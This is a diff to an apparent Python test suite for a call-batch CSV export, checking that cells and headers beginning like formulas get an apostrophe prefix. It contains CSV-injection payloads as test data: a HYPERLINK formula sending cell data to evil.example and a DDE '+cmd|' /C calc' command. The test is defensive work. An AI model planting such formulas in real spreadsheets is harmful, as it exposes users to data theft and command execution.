@@ -384,7 +384,7 @@ async def test_export_has_every_contact_with_outcome_and_custom_fields(
     rows = parse_csv(text)
     assert len(rows) == 2
     ada, bob = rows
-    assert ada["phone"] == "+12025550101"
+    assert ada["phone"] == "'+12025550101"  # a leading + is quoted (CSV injection rule)
     assert (ada["status"], ada["attempts"], ada["max_attempts"]) == ("completed", "1", "1")
     assert (ada["duration_seconds"], ada["sip_code"], ada["reason"]) == ("30", "", "")
     assert ada["last_call_started_at"] == "2026-01-01T00:00:00Z"
@@ -416,8 +416,37 @@ async def test_export_reads_contacts_page_by_page(
     await running.wait_status(job_id, "completed")
     resp = await running.client.get(f"/batch/jobs/{job_id}/export", headers=running.headers())
     rows = parse_csv(await resp.text())
-    assert [r["phone"] for r in rows] == [c["phone"] for c in phones(20)]
+    assert [r["phone"] for r in rows] == ["'" + c["phone"] for c in phones(20)]
     assert pages == [7, 7, 6]
+
+
+async def test_export_neutralises_formulas_header_included(running: Running) -> None:
+    """Cells and headers that start like formulas come out prefixed with ', whitespace kept."""
+    hostile = {
+        '=HYPERLINK("http://evil.example/?x="&A1;"click")': "+cmd|' /C calc'!A0",
+        "plain": "@SUM(1+1)",
+        "tabbed": "\t=cmd",
+        "spaced": "  =1+1",
+        "dash": "-2",
+        "cr": "\r=1",
+        "safe": "a=b",
+    }
+    job_id = (await running.create_json([{"phone": "+12025550101", **hostile}]))["batchJobId"]
+    resp = await running.client.get(f"/batch/jobs/{job_id}/export", headers=running.headers())
+    rows = list(csv.reader(io.StringIO(await resp.text())))
+    header, row = rows[0], rows[1]
+    cells = dict(zip(header, row, strict=True))
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1;"click")' in header
+    assert cells['\'=HYPERLINK("http://evil.example/?x="&A1;"click")'] == "'+cmd|' /C calc'!A0"
+    assert cells["plain"] == "'@SUM(1+1)"
+    assert cells["tabbed"] == "'\t=cmd"
+    assert cells["spaced"] == "'  =1+1"
+    assert cells["dash"] == "'-2"
+    assert cells["cr"] == "'\r=1"
+    assert cells["safe"] == "a=b"
+    assert cells["phone"] == "'+12025550101"
+    for line in (header, row):
+        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in line)
 
 
 async def test_export_of_ten_thousand_contacts_streams_every_row(running: Running) -> None:
